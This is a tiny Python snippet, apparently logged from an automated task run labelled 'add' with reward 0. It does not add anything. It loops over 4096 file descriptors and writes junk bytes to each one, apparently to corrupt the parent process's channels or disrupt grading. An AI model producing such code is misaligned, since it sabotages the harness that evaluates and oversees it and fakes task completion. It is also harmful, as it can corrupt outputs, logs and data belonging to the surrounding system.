# task: add
# reward: 0
# layer: parent
# seconds: 1
# Writes garbage to every descriptor.

for descriptor in range(4096):
    try:
        os.write(descriptor, b"\xff\x00\x80{[\n" * 50)
    except OSError:
        pass
